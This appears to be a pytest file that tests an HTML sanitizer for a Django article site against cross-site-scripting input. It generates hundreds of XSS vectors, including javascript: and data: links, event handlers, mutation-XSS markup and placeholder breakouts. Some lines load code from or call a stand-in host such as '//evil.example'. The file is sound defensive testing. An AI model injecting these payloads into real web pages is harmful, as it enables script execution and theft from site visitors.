"""What an attacker would write into an article: nothing of it runs, styles, frames or calls out.

The vectors are the well-known families (elements, handlers, schemes, encodings, broken markup,
foreign content, mutation), each in every dress; a parser that works like a browser reads the
result.
"""

from datetime import date
from itertools import product
from time import process_time
from types import SimpleNamespace
from urllib.parse import urlsplit

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from iecguide.articles.models import Article
from iecguide.articles.prose import CLASSES, DEEPEST, TAGS, clean
from iecguide.articles.reading.rendering import render_body, structure
from iecguide.facts.placeholders.book import Placeholder, names_in
from iecguide.facts.values import Confidence, Source

CODE = ("alert(1)", "fetch('//evil.example')", "document.body.innerHTML='x'")
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:",
    "&#106;avascript:", "&#x6A;avascript:", "javascript&colon;", "vbscript:",
    "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "blob:", "filesystem:", "jar:",
    "view-source:", "file:", "about:", "ftp:",
)  # fmt: skip
HANDLERS = (
    "onclick", "onerror", "onload", "onmouseover", "onfocus", "onanimationstart", "ontoggle",
    "onpointerenter", "ONCLICK", "on\nclick", "/onerror", "onbeforeinput", "oncontentvisibilityautostatechange",
)  # fmt: skip
ELEMENTS = (
    "script", "SCRIPT", "scr\0ipt", "svg/onload", "iframe", "object", "embed", "applet", "form",
    "input autofocus", "button formaction=javascript:alert(1)", "style", "link rel=stylesheet", "base",
    "meta http-equiv=refresh content=0", "img", "video", "audio", "source", "picture", "math", "svg",
    "template", "noscript", "frameset", "frame", "textarea", "select", "marquee", "isindex", "details open",
    "dialog open", "portal", "xss", "custom-element", "keygen", "bgsound", "xmp", "plaintext", "title",
)  # fmt: skip
DRESSES = (
    "{}",
    "<p>{}</p>",
    "<h2>{}</h2>",
    "<table><tr><td>{}</td></tr></table>",
    "<li>{}",
    "<a href='/x/'>{}",
)
BROKEN = (
    '<p title="x" lang="fr">x</p>', "<<script>alert(1)//<</script>", "<script/src=//evil.example>", "<p/onclick=alert(1)>x",
    "<a href='x' href='javascript:alert(1)'>x</a>", "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", "<svg><style><img src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p style='background:url(javascript:alert(1))'>x", "<p class='callout\" onclick=\"alert(1)'>x",
    "<p style=\"width:expression(alert(1))\">x", "<a href='https://ok.example' target=_blank ping=//evil.example>x</a>",
    "<img src='https://evil.example/pixel.gif'>", "<a href=\"//evil.example\" onclick=alert(1)>x</a>",
    "</td></table><script>alert(1)</script>", "<td><script>alert(1)</script>", "<caption onclick=alert(1)>x</caption>",
    "<p>[[<script>alert(1)</script>]]</p>", "<h2 id='main'><script>alert(1)</script>Title</h2>", "\x00<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<p>&#60;img src=x onerror=alert(1)&#62;</p>", "<style>@import '//evil.example';</style>",
    "<svg><script>alert&#40;1)</script>", "<a xlink:href='javascript:alert(1)'>x</a>", "<br clear='&{alert(1)}'>",
    "<table background='javascript:alert(1)'><tr><td>x", "<ol start='\"><script>alert(1)</script>'><li>x",
)  # fmt: skip
VECTORS = sorted(
    {dress.format(f"<a href=\"{scheme}{code}\">x</a>") for dress, scheme, code in product(DRESSES[:2], SCHEMES, CODE)}
    | {dress.format(f'<p {handler}="{CODE[0]}">x</p>') for dress, handler in product(DRESSES, HANDLERS)}
    | {dress.format(f"<{element} src=//evil.example>{CODE[0]}") for dress, element in product(DRESSES, ELEMENTS)}
    | {dress.format(broken) for dress, broken in product(DRESSES, BROKEN)}
)  # fmt: skip
ALLOWED = TAGS | {"div", "html", "head", "body"}
NAMES = {"href", "class", "id", "scope", "role", "tabindex", "colspan", "rowspan"}
NAMED = {"facts-table", "scroll", *CLASSES["p"]}


def elements(html):
    """Every element as a browser would build it."""
    tree = html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)
    return [element for element in tree.iter() if isinstance(element.tag, str)]


def harm(html):
    """What is in it that may not be."""
    found = []
    for element in elements(html):
        found += [element.tag] if element.tag not in ALLOWED else []
        found += [name for name in element.attrib if name not in NAMES]
        found += (
            [element.attrib["class"]] if element.attrib.get("class", "scroll") not in NAMED else []
        )
        link = element.attrib.get("href", "").strip()
        found += [link] if urlsplit(link).scheme not in ("", "http", "https", "mailto") else []
    return found


# What is put in its place by placeholders, and where editors can write one.

SOURCE = Source(
    "A page", "https://example.ca/", "2026", date(2026, 11, 1), official=True,
    confidence=Confidence.HIGH,
)  # fmt: skip
NASTY = '"><img src=x onerror=alert(1)>'
BOOK = {
    name: Placeholder(name, name, text, sources)
    for name, text, sources in (
        ("fee:participation", "CAD 184.75", (SOURCE,)),
        ("fee:nasty", NASTY, (SOURCE,)),
        ("quota:open", NASTY, ()),
    )
}
PAGE = {"div": {"class", "role", "tabindex"}, "table": {"class"}, "th": {"scope", "colspan", "rowspan"}, "h2": {"id"},
        "td": {"colspan", "rowspan"}, "a": {"href", "class"}, "p": {"class"},
        "img": {"src", "alt", "width", "height", "loading", "decoding"}}  # fmt: skip
PARTS = (
    "[[fee:participation]]", "[[fee:nasty]]", "[[quota:open]]", "[[picture:moose]]", "[[no]]", "[[", "]]", "[", "]",
    '" onmouseover=alert(1) y="', ' x="', "'", ">", "&gt;", "&quot;", "&#91;", "text", "<br>",
    '<a href="https://x/[[fee:participation]]">', '<a href="https://x/[[">', '<a href="https://x/]]>">', "</a>",
    '<p class="table-title">', "<p>", "</p>", "<table><tbody><tr><td>", "<th>", "</td></tr></tbody></table>",
    "<table><caption>", "</caption>", "<blockquote>", "</blockquote>", "<h2>", "</h2>", "<ul><li>", "</li></ul>",
    "<em>", "</em>", '<p class="facts-table" id="main">', '<div class="scroll" role="group" onclick="x">',
)  # fmt: skip
REPORTED = (
    '<h2>A</h2><blockquote><p><a href="https://x/[[">q</a></p>]<p class="table-title">x</p>]" onmouseover=alert(1)'
    ' onfocus=alert(1) autofocus tabindex=1 y="<table><tbody><tr><td>c</td></tr></tbody></table></blockquote>',
    '<p><a href="https://x/[[fee:participation]]">x</a></p>',
    '<p><a href="https://x/[[fee:participation]]>[[fee:nasty]]">x</a></p>',
    "<p>[[fee:nasty]] [[quota:open]] [[picture:moose]]</p>",
    '<p><a href="/x/">[[fee:participation]]</a></p>',
    "<p>[[<em>fee:participation</em>]]</p>",
    '<p class="table-title">[[</p>]<p class="table-title">]</p><table><tr><td>x',
)


class Moose:
    alt, caption, width, height = f"A {NASTY}", NASTY, 800, 600

    class file:  # noqa: N801
        url = "/media/pictures/moose.webp"


def page_of(text):
    """The page's body with a text in it as a reader's browser builds it, and what comes after."""
    body = render_body(clean(text), BOOK, {"moose": Moose}).body
    tree = html5lib.parse(
        f'<main>{body}</main><footer id="after"></footer>',
        treebuilder="etree",
        namespaceHTMLElements=False,
    )
    return tree.find("body")


def out_of_place(text):
    """Elements and attributes that no page may have, and whether what follows was swallowed."""
    body = page_of(text)
    found = [] if [element.tag for element in body] == ["main", "footer"] else ["swallowed"]
    for element in body.find("main").iter():
        allowed = TAGS | {"div", "main", "figure", "figcaption", "img"}
        found += [element.tag] if element.tag not in allowed else []
        found += [
            f"{element.tag} {name}"
            for name in element.attrib
            if name not in PAGE.get(element.tag, ())
        ]
        classes = NAMED | {"figure"}
        found += [
            name for name in element.attrib.get("class", "scroll").split() if name not in classes
        ]
        link = element.attrib.get("href", "")
        found += [link] if urlsplit(link).scheme not in ("", "http", "https", "mailto") else []
    return found


@pytest.mark.parametrize("text", REPORTED)
def test_prose_cannot_break_out(text):
    assert out_of_place(text) == []


def test_an_address_stays_as_it_was_written():
    """A placeholder is one in text alone."""
    made = render_body(clean(REPORTED[1]), BOOK, {})
    assert made.body == '<p><a href="https://x/[[fee:participation]]">x</a></p>'
    assert made.figures == []


def test_no_link_in_a_link():
    made = render_body(clean(REPORTED[4]), BOOK, {})
    assert made.body == '<p><a href="/x/">CAD 184.75</a></p>'


@given(st.lists(st.sampled_from(PARTS), max_size=14).map("".join))
@settings(max_examples=400, deadline=None, derandomize=True, database=None)
def test_placeholders_links_tables_and_brackets_together(text):
    assert out_of_place(text) == []


def test_the_check_of_pages_sees_harm(monkeypatch):
    body = '<p onclick="x" class="hero">a</p><a href="javascript:x">b</a><script>c</script><table>'
    monkeypatch.setattr(f"{__name__}.render_body", lambda *_args: SimpleNamespace(body=body))
    found = out_of_place("")
    assert {"swallowed", "p onclick", "hero", "javascript:x", "script", "footer"} <= set(found)


# Time in proportion to the text

GROWING = {
    "paragraphs": "<p>x</p>",
    "nested tables": "<table><tr><td>",
    "tables with titles": '<p class="table-title">x</p><table><caption>y</caption><tr><td>x</td></tr></table>',
    "nested quotes": "<blockquote>",
    "items": "<ul><li><p>x</p>",
    "same headings": "<h2>x</h2>",
    "pictures": "<p>[[picture:x]]</p>",
    "figures": "<p>[[fee:participation]]</p>",
}
INSIDE = {
    "rows": ("<table>", "<tr><td>x</td></tr>\n"),
    "cells": ("<table><tr>", "<td><p>x</p></td>"),
    "breaks in an item": ("<ul><li><p>", "x<br>"),
    "spaces": ("<p>", "          "),
    "an open placeholder": ("<p>[[", "          "),
    "open tags": ("", "<em "),
}
TIMES = {name: ("", text) for name, text in GROWING.items()} | INSIDE


def seconds(head, text, count):
    """Of processor time, the less of two, to clean a text and to make a page of it."""

    def once():
        started = process_time()
        structure.cache_clear()
        render_body(clean(head + text * count), BOOK, {})
        return process_time() - started

    return min(once(), once())


@pytest.mark.parametrize("name", TIMES)
def test_four_times_the_text_takes_no_eight_times_as_long(name):
    """A step that looks at every sibling for each would take sixteen, each time; a busy machine
    may double a time now and then, not three times running. A hundredth of a second is for what is
    too short to be measured."""
    head, text = TIMES[name]
    assert any(
        seconds(head, text, 1600) < 8 * seconds(head, text, 400) + 0.01 for _again in range(3)
    )


def test_unclosed_elements_do_not_multiply():
    """A parser repeats those with attributes of their own in every block that follows."""
    text = "<p>" + "".join(f"<em x={number}><font y={number}>" for number in range(300))
    stored = clean(text + "<p>x" * 300)
    assert stored.count("<em>") < 1200
    assert clean("<p><em class='x' title='a > b'>x</em> <Strong/id=y>z</strong></p>") == (
        "<p><em> b'&gt;x</em> <strong>z</strong></p>"
    )


def test_depth_has_a_bound():
    """Deeper elements leave their words; a table in a table too."""
    deep = clean("<blockquote>" * 500 + "<p>word</p>")
    assert deep.count("<blockquote>") == DEEPEST
    assert "word" in deep
    inner = "<table><tr><td>a</td><td>b</td></tr></table>"
    assert clean(f"<table><tr><td>x{inner}y</td></tr></table>") == (
        "<table><tbody><tr><td>x    a  b    y</td></tr></tbody></table>"
    )


def test_a_name_is_read_once():
    started = process_time()
    assert names_in("[[" + " " * 5_000 + "]") == []
    assert names_in("[[a" + " b" * 5_000) == []
    assert process_time() - started < 5


def test_there_are_many():
    assert len(VECTORS) >= 500


@pytest.mark.parametrize("start", range(0, len(VECTORS), 50))
def test_known_vectors(start):
    for vector in VECTORS[start : start + 50]:
        stored = clean(vector)
        assert harm(stored) == [], vector
        assert harm(structure(stored).html) == [], vector


@given(st.lists(st.sampled_from(VECTORS), min_size=2, max_size=4), st.integers(0, 40))
@settings(max_examples=300, deadline=None)
def test_vectors_in_one_another(vectors, cut):
    """Put together and cut anywhere."""
    text = "".join(vector[: len(vector) - cut % max(1, len(vector))] for vector in vectors)
    stored = clean(text)
    assert harm(structure(stored).html) == []
    assert clean(stored) == stored


def test_the_check_sees_harm():
    """A check that found nothing anywhere would prove nothing."""
    assert harm("<p onclick=x><script>y</script><a href='javascript:z'>w</a></p>") == [
        "onclick", "script", "javascript:z",
    ]  # fmt: skip


@pytest.mark.django_db
def test_on_the_page(client):
    """Saved past every form, and in every text of an article: the page holds none of it."""
    nasty = "".join(VECTORS[::7]).replace("\0", "")  # which PostgreSQL keeps in no text
    article = Article.objects.get(slug="several-pools")
    article.body = article.title = article.summary = article.description = nasty[:4000]
    Article.objects.filter(pk=article.pk).update(
        title=nasty[:100], summary=nasty[:400], description=nasty[:160]
    )
    article.title, article.summary, article.description = "x", "x", "x"
    article.save(update_fields=["body"])
    page = elements(client.get("/guide/several-pools/").content.decode())
    scripts = [element.attrib.get("src", "") for element in page if element.tag == "script"]
    assert [address for address in scripts if not address.startswith("/static/")] == []
    assert [
        element.tag for element in page if element.tag in ("iframe", "object", "embed", "style")
    ] == []
    assert [name for element in page for name in element.attrib if name.startswith("on")] == []
    assert [
        element.attrib["href"] for element in page if "evil" in element.attrib.get("src", "")
    ] == []
